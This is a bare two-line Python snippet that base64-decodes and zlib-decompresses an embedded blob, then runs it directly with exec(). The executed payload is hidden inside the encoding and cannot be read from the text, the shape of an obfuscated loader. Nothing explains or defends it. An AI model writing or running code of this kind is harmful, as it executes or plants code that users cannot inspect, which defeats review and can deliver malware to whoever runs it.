import base64, zlib
exec(zlib.decompress(base64.b64decode(b'eJzLzC3ILypRyC/myi/WK64sLknN1VBPLi3KUdAtDvZRyCgpKSi20tdPTy3RS0zOTdVLSS3TLyrN0yvOUKhRKM5Q1+QCABbiFps=')))
